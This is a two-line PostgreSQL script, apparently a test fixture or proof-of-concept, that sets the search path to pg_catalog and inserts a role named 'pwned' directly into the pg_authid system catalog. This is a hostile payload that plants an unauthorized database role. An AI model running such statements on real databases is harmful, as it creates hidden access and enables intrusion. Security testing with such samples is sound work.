SELECT pg_catalog.set_config('search_path', 'pg_catalog', false);
INSERT INTO pg_authid (rolname) VALUES ('pwned');
